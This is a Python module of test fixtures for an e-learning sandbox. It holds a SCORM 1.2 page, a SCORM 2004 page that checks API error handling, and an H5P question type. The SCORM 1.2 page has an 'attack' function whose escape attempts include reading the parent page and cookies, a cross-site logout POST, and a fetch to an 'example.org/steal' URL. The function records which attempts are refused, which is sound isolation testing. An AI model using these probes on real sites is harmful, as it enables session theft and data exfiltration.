"""Pages that play in the sandbox: a SCORM part that works and tries what it must not, and an H5P question."""

from typing import Final

SCO: Final = """<!doctype html><html lang="es"><head><meta charset="utf-8"><title>Prototipar</title>
<script>
function find(win) { while (!win.API && win.parent && win.parent !== win) win = win.parent; return win.API; }
const api = find(window);
const log = {};
function start() {
  log.init = api.LMSInitialize("");
  log.again = api.LMSInitialize("") + api.LMSGetLastError();
  log.entry = api.LMSGetValue("cmi.core.entry");
  log.name = api.LMSGetValue("cmi.core.student_name");
  log.mastery = api.LMSGetValue("cmi.student_data.mastery_score");
  log.resumed = api.LMSGetValue("cmi.suspend_data");
  log.readonly = api.LMSSetValue("cmi.core.student_id", "x") + api.LMSGetLastError();
  log.unknown = api.LMSGetValue("cmi.constructor") + api.LMSGetLastError();
  log.type = api.LMSSetValue("cmi.core.score.raw", "mucho") + api.LMSGetLastError();
  log.children = api.LMSGetValue("cmi.core.score._children");
  log.count = api.LMSGetValue("cmi.interactions._count");
  log.skip = api.LMSSetValue("cmi.interactions.3.id", "q") + api.LMSGetLastError();
  log.first = api.LMSSetValue("cmi.interactions.0.id", "q");
  log.counted = api.LMSGetValue("cmi.interactions._count");
  document.getElementById("log").textContent = JSON.stringify(log);
}
function answer(points) {
  api.LMSSetValue("cmi.core.score.min", "0");
  api.LMSSetValue("cmi.core.score.max", "100");
  api.LMSSetValue("cmi.core.score.raw", String(points));
  api.LMSSetValue("cmi.core.lesson_status", "completed");
  api.LMSSetValue("cmi.suspend_data", "página=2");
  api.LMSSetValue("cmi.core.exit", "suspend");
  api.LMSSetValue("cmi.core.session_time", "0000:01:05");
  api.LMSCommit("");
}
async function attack() {
  const found = {};
  const attempt = async (name, work) => {
    try { found[name] = "REACHED " + String(await work()).slice(0, 40); } catch (refused) { found[name] = "refused"; }
  };
  await attempt("parent", () => window.parent.document.title);
  await attempt("cookie", () => { if (!document.cookie) throw new Error("none"); return document.cookie; });
  await attempt("storage", () => { if (!localStorage.length) throw new Error("empty"); return 1; });
  await attempt("house", async () => (await fetch("/mi-trabajo/", { credentials: "include" })).status);
  await attempt("post", async () => (await fetch("/cuenta/salir/", { method: "POST", mode: "no-cors" })).type);
  await attempt("elsewhere", async () => (await fetch("https://example.org/steal?x=1", { mode: "no-cors" })).type);
  await attempt("popup", () => { if (!window.open("about:blank")) throw new Error("none"); return 1; });
  await attempt("top", () => { window.top.location = "https://example.org/"; return "sent"; });
  await attempt("worker", () => navigator.serviceWorker.register("sw.js"));
  await attempt("image", () => new Promise((good, bad) => { const img = new Image(); img.onload = () => good(1);
    img.onerror = bad; img.src = "https://example.org/pixel.png"; setTimeout(() => bad(1), 800); }));
  document.getElementById("attack").textContent = JSON.stringify(found);
}
</script></head>
<body onload="start()"><h1>Prototipar</h1><p>¿Qué se prueba primero?</p>
<button id="right" onclick="answer(90)">Lo más incierto</button>
<button id="wrong" onclick="answer(20)">Lo más caro</button>
<button id="try" onclick="attack()">Salir de aquí</button>
<button id="end" onclick="api.LMSFinish('')">Terminar</button>
<pre id="log"></pre><pre id="attack"></pre></body></html>"""

SCO_2004: Final = """<!doctype html><html lang="es"><head><title>2004</title></head><body>
<h1>SCORM 2004</h1><pre id="log"></pre>
<script>
const api = window.API_1484_11; const log = {}; const code = () => api.GetLastError();
log.early = api.GetValue("cmi.location") + code();
log.init = api.Initialize("");
log.again = api.Initialize("") + code();
log.unset = api.GetValue("cmi.location") + code();
log.range = api.SetValue("cmi.score.scaled", "1.5") + code();
log.type = api.SetValue("cmi.completion_status", "hecho") + code();
log.needs = api.SetValue("cmi.interactions.0.type", "choice") + code();
log.id = api.SetValue("cmi.interactions.0.id", "urn:q1");
log.kind = api.SetValue("cmi.interactions.0.type", "choice");
log.read = api.SetValue("cmi.learner_name", "x") + code();
log.write = api.GetValue("cmi.session_time") + code();
log.unknown = api.GetValue("cmi.nothing") + code();
log.passing = api.GetValue("cmi.scaled_passing_score");
log.version = api.GetValue("cmi._version");
log.children = api.GetValue("cmi.score._children");
api.SetValue("cmi.score.scaled", "0.8"); api.SetValue("cmi.completion_status", "completed");
api.SetValue("cmi.session_time", "PT2M"); api.SetValue("cmi.exit", "normal");
log.end = api.Terminate("");
log.late = api.SetValue("cmi.location", "x") + code();
document.getElementById("log").textContent = JSON.stringify(log);
</script></body></html>"""

QUESTION: Final = """var H5P = H5P || {};
H5P.MingaQuestion = (function ($, EventDispatcher) {
  function Question(params, id, extras) {
    EventDispatcher.call(this);
    var self = this;
    var state = (extras && extras.previousState) || {};
    this.answered = state.answered || '';
    this.attach = function ($container) {
      $container.append('<p class="said">' + params.question + '</p><p class="before">' + self.answered + '</p>');
      $('<button/>', { id: 'yes', text: 'Sí' }).appendTo($container).on('click', function () {
        self.answered = 'sí';
        var event = self.createXAPIEventTemplate('answered');
        event.setScoredResult(1, 1, self, true, true);
        self.trigger(event);
      });
    };
    this.getCurrentState = function () { return { answered: self.answered }; };
    this.getMaxScore = function () { return 1; };
    this.getScore = function () { return self.answered ? 1 : 0; };
    this.contentId = id;
  }
  Question.prototype = Object.create(EventDispatcher.prototype);
  Question.prototype.constructor = Question;
  return Question;
})(H5P.jQuery, H5P.EventDispatcher);
"""
